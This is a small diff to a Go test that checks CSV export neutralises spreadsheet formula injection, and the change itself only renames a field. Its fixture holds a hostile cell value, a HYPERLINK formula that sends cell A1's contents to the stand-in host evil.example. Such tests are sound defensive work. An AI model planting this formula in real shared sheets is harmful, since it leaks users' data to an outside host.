@@ -13,10 +13,10 @@ import (
 // run them (formula injection).
 func TestExportNeutralisesFormulas(t *testing.T) {
 	c, _ := load(t)
-	if len(c.ps.out.Cands) == 0 {
+	if len(c.ps.Out.Cands) == 0 {
 		t.Fatal("no candidate offers to export")
 	}
-	id := c.ps.out.Cands[0].Offer.ID
+	id := c.ps.Out.Cands[0].Offer.ID
 	sheet := "offer_id,source,as_of\n" + id + `,"=HYPERLINK(""http://evil.example/?""&A1,""prices"")",2026-11-01` + "\n"
 	if !c.applySheet(none, "shared.csv", sheet) {
 		t.Fatalf("sheet refused: %s", c.sheet.Err)
